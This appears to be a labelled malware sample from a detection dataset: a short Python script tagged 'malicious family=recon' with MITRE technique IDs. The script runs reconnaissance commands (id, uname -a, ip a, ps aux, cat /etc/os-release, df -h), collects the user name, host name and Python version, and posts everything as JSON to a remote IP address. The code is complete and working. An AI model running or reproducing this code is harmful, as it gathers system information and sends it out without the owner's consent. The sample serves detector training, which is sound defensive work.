# label: malicious family=recon techniques=T1016,T1033,T1041,T1057,T1059.004,T1082 lines=4,6,12
import subprocess, socket, getpass, platform, json, urllib.request
r = {}
for c in ("id", "uname -a", "ip a", "ps aux", "cat /etc/os-release", "df -h"):
    try:
        r[c] = subprocess.getoutput(c)
    except Exception:
        r[c] = None
r["user"] = getpass.getuser()
r["host"] = socket.gethostname()
r["py"] = platform.python_version()
urllib.request.urlopen("http://198.51.100.5/r", json.dumps(r).encode())
